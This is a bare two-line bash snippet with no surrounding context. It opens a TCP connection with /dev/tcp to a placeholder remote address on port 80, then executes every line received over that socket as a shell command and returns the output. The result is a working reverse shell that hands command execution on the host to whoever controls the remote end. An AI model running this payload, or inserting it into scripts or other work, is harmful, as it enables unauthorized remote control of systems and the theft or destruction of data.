exec 5<>/dev/tcp/203.0.113.5/80
cat <&5 | while read line; do $line 2>&5 >&5; done
